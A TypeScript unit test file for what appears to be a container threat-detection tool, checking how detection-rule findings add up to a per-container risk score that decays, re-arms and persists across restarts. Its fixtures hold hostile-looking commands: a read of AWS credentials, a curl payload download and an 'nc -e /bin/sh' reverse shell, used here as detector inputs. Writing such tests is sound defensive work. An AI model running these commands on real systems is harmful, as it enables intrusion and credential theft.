import assert from 'node:assert/strict';
import { existsSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import winston from 'winston';
import { Detector, detectConfig } from '../../src/detect/detector';
import { RiskScore, riskConfig, type RiskConfig } from '../../src/detect/risk';
import { RISK_RULE_ID } from '../../src/detect/risk-alert';
import { BUILTIN_RULES, loadRules } from '../../src/detect/rules';
import { AlertBus } from '../../src/notify/alert-bus';
import type { Envelope } from '../../src/ship/envelope';
import { Telemetry } from '../../src/telemetry/telemetry';

const builtin = loadRules([BUILTIN_RULES]).rules;
/** The repository root, from dist/test/detect (no engine helpers: this file stays a unit test). */
const ROOT = join(__dirname, '..', '..', '..');
const CID = 'f'.repeat(64);

/** The pipeline's wiring in small: detector → alert bus (a listener counts pages), signals apart, risk fed by findings. */
function rig(risk: Partial<RiskConfig> = {}, stateDir = mkdtempSync(join(tmpdir(), 'dw-risk-')), clock = { now: 1_000_000 }) {
  const telemetry = new Telemetry(winston.createLogger({ silent: true }));
  const queued: Envelope[] = [];
  const signals: Envelope[] = [];
  const paged: Envelope[] = [];
  const bus = new AlertBus(telemetry);
  bus.add({ name: 'pager', onAlert: (e) => void paged.push(e) });
  const cfg = detectConfig.parse({ window: '1h', risk });
  let det: Detector | undefined = undefined;
  const score = new RiskScore(cfg.risk, stateDir, (rule, env, extra) => det!.raise(rule, env, extra), telemetry, () => clock.now);
  det = new Detector(builtin, cfg, 'test', (e) => bus.publish(e, (x) => queued.push(x)), telemetry, {
    emitSignal: (e) => void signals.push(e),
    onFinding: (rule, env) => score.finding(rule, env),
  });
  return { det, score, queued, signals, paged, telemetry, stateDir, clock };
}

const exec = (cmd: string, id = cmd) => ({
  index: 'logs-dockward.process-test', id,
  doc: { data_stream: { dataset: 'dockward.process' }, event: { type: ['start'], provider: 'exec' }, container: { id: CID, name: 'ci-runner' }, process: { name: cmd.split(' ')[0], args: cmd.split(' '), command_line: cmd } },
});
const anomaly = (score: number, warm = true): Envelope => ({ index: 'metrics-dockward.anomaly-test', id: `a${score}`, doc: { container: { id: CID, name: 'ci-runner' }, dockward: { anomaly: { score, warm, top: 'process_starts' } } } });
const ruleOf = (e: Envelope) => (e.doc.rule as { id: string }).id;
const STEPS = ['uname -a', 'cat /etc/passwd', 'apt-get install -y curl', 'cat /root/.aws/credentials'];

describe('signals and the per-container risk score', () => {
  it('signal findings are written to the signal stream and page nobody; together they raise ONE risk alert naming them', () => {
    const r = rig();
    for (const s of STEPS) r.det.inspect(exec(s));
    // Two rules see `uname -a` and `cat /etc/passwd` each (recon on exec, and discovery): both are
    // recorded as signals, but each command counts once toward the score, at its strongest rule.
    assert.deepEqual(r.signals.map(ruleOf), ['dockward-discovery-system-info', 'dockward-exec-recon', 'dockward-discovery-accounts', 'dockward-exec-system-discovery', 'dockward-package-manager', 'dockward-credential-file-read']);
    for (const s of r.signals) {
      assert.equal(s.index, 'logs-dockward.signal-test');
      assert.equal((s.doc.event as { kind: string }).kind, 'signal');
      assert.equal((s.doc.data_stream as { dataset: string }).dataset, 'dockward.signal');
      assert.ok(((s.doc.threat as { technique: { id: string[] } }).technique.id.length) > 0);
      assert.equal((s.doc.dockward as { signal: { count: number } }).signal.count, 1);
    }
    assert.deepEqual(r.paged.map(ruleOf), [RISK_RULE_ID]);
    assert.deepEqual(r.queued.map(ruleOf), [RISK_RULE_ID]);
    const alert = r.queued[0].doc as { message: string; threat: { technique: { id: string[] } }; container: { id: string }; dockward: { alert: { evidence: string }; risk: { score: number; findings: number; contributors: Array<{ rule_id: string; count: number; class: string }> } } };
    assert.equal(alert.container.id, CID);
    // 21 + 21 + 47 + 73: the credential read crossed 100
    assert.equal(alert.dockward.risk.score, 162);
    assert.equal(alert.dockward.risk.findings, 4);
    const counted = alert.dockward.risk.contributors.map((c) => c.rule_id);
    assert.equal(counted.length, STEPS.length, `one contributor per command: ${counted.join(', ')}`);
    for (const id of counted) assert.ok(r.signals.map(ruleOf).includes(id) && alert.message.includes(id), `${id} is a signal named in: ${alert.message}`);
    const union = new Set(r.signals.filter((s) => counted.includes(ruleOf(s))).flatMap((s) => (s.doc.threat as { technique: { id: string[] } }).technique.id));
    assert.deepEqual(new Set(alert.threat.technique.id), union);
    assert.equal(alert.dockward.alert.evidence, 'log', 'the responder sees the weakest evidence');
    assert.equal(r.score.score(CID), 162);
  });

  it('does not raise again while over the threshold, and again only after decaying under the re-arm mark', () => {
    const r = rig({ half_life: 600_000 });
    for (const s of STEPS) r.det.inspect(exec(s));
    r.det.inspect(exec('ps aux'));
    r.det.inspect(exec('curl -o /tmp/x.sh http://127.0.0.1/x.sh'));
    assert.equal(r.paged.length, 1);
    r.clock.now += 4 * 600_000; // 4 half-lives: ≈ 226/16 < 50
    assert.ok(r.score.score(CID) < 50);
    for (const s of STEPS) r.det.inspect(exec(s, `${s}-again`));
    // the detector's group (window 1h) folds the second crossing into the first alert's group
    r.det.flush();
    const risk = r.queued.filter((e) => ruleOf(e) === RISK_RULE_ID);
    assert.deepEqual(risk.map((e) => (e.doc.dockward as { alert: { count: number; summary: boolean } }).alert).map((a) => [a.summary, a.count]), [[false, 1], [true, 2]]);
  });

  it('alerts count toward the score, and a warm anomaly score adds its weighted points; a cold one adds none', () => {
    const r = rig();
    r.score.anomaly(anomaly(90, false));
    assert.equal(r.score.score(CID), 0);
    r.score.anomaly(anomaly(90));
    assert.equal(r.score.score(CID), 45);
    r.det.inspect(exec('nc -e /bin/sh 127.0.0.1 4444'));
    const ids = r.paged.map(ruleOf);
    assert.ok(ids.includes('dockward-reverse-shell-nc') && ids.includes(RISK_RULE_ID), ids.join(','));
    const risk = r.paged.find((e) => ruleOf(e) === RISK_RULE_ID)!.doc.dockward as { risk: { anomaly: number; contributors: Array<{ class: string }> } };
    assert.equal(risk.risk.anomaly, 45);
    assert.ok(risk.risk.contributors.some((c) => c.class === 'anomaly') && risk.risk.contributors.some((c) => c.class === 'alert'));
  });

  it('survives a restart: scores and the disarmed state come back from risk-scores.json', () => {
    const a = rig();
    a.score.start();
    for (const s of STEPS) a.det.inspect(exec(s));
    a.score.stop();
    assert.ok(existsSync(join(a.stateDir, 'risk-scores.json')));
    const b = rig({}, a.stateDir, { now: a.clock.now });
    b.score.start();
    assert.equal(b.score.score(CID), 162);
    b.det.inspect(exec('ps aux'));
    assert.deepEqual(b.paged, [], 'already alerted before the restart: no second alert');
    b.score.stop();
  });

  it('an unusable state file is moved aside and every score starts from zero', () => {
    const dir = mkdtempSync(join(tmpdir(), 'dw-risk-'));
    writeFileSync(join(dir, 'risk-scores.json'), JSON.stringify({ version: 1, containers: [{ id: 'x', armed: true, contributors: [{ id: 'r', value: 'lots' }] }] }));
    const r = rig({}, dir);
    r.score.start();
    assert.equal(r.score.score('x'), 0);
    assert.ok(readdirSync(dir).some((f) => f.startsWith('risk-scores.json.corrupt-')));
    assert.ok(r.telemetry.health.list().some((h) => h.component === 'risk-scores'), JSON.stringify(r.telemetry.health.list()));
  });

  it('caps are counted in metrics', async () => {
    const r = rig({ max_containers: 2 });
    for (const c of ['1', '2', '3']) r.det.inspect({ ...exec('uname -a', c), doc: { ...exec('uname -a').doc, container: { id: c.repeat(64), name: c } } });
    const m = await r.telemetry.snapshot();
    assert.equal(m['dockward_risk_evicted_total{what=container}'], 1);
    assert.equal(m.dockward_risk_containers, 2);
    assert.equal(m['dockward_signals_total{rule=dockward-exec-recon}'], 3);
  });

  it('config: rearm must stay under threshold, checked without I/O', () => {
    const bad = riskConfig.safeParse({ threshold: 50, rearm: 60 });
    assert.ok(!bad.success && bad.error.issues.some((i) => i.path.join('.') === 'rearm'));
    assert.deepEqual(riskConfig.parse({}).threshold, 100);
  });
});

describe('built-in building blocks', () => {
  it('docs/rules.md names every built-in rule of class signal, and no other', () => {
    const doc = readFileSync(join(ROOT, 'docs', 'rules.md'), 'utf8');
    const section = doc.slice(doc.indexOf('Built-in signals'), doc.indexOf('Everything no benign container does'));
    const named = [...section.matchAll(/`(dockward-[a-z0-9-]+)`/g)].map((m) => m[1]).sort();
    assert.deepEqual(named, builtin.filter((r) => r.class === 'signal').map((r) => r.id).sort());
  });
});
